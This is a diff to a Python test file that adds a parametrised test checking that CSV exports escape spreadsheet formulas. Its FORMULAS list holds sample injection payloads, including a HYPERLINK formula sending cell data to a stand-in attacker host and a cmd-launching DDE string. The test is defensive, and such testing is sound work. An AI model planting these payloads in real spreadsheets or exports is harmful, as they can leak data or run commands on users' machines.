@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from dataclasses import replace
 from datetime import date, datetime, timedelta
 from pathlib import Path
@@ -220,3 +221,32 @@ def spent_as_of(shop: Any, team: Team, instant: datetime) -> float:
     rows = ViewRows(VIEW, shop.platform.lake.read(view_table(team.name, VIEW)).drop_columns("_date"))
     found: float = shop.platform.engine.point_in_time(asked, [rows])["spent"][0].as_py()
     return found
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd",
+    "-2+3",
+    "\tx",
+    "'=1",
+    "''-x",
+]
+PLAIN = ["-1.5", "+7", "a=b", "'s-Hertogenbosch", "", "it's"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
+def test_a_spreadsheet_gets_no_formula(shop: Any, tmp_path: Path, text: str) -> None:
+    """Whoever may send a row, or name a field, must not run something where it is mended; and all comes back."""
+    quoted = text.replace('"', '""')
+    shop.deliver("monday", f'"{quoted}",0', header='"=cmd",Price\n')
+    shop.contract(without="customer")
+    file = shop.folder / "orders.yaml"
+    file.write_text("\n".join(line for line in file.read_text().splitlines() if "name: at," not in line))
+    land(*shop.args)
+    [row] = out(shop, tmp_path / "letters.csv").values()
+    assert row["=cmd"] == (text or None)
+    written = next(csv.DictReader((tmp_path / "letters.csv").open(newline="")))
+    assert "'=cmd" in written
+    assert (written["'=cmd"] == f"'{text}") == (text in FORMULAS)
+    assert replay(*shop.args, read(tmp_path / "letters.csv")).still_dead == 1
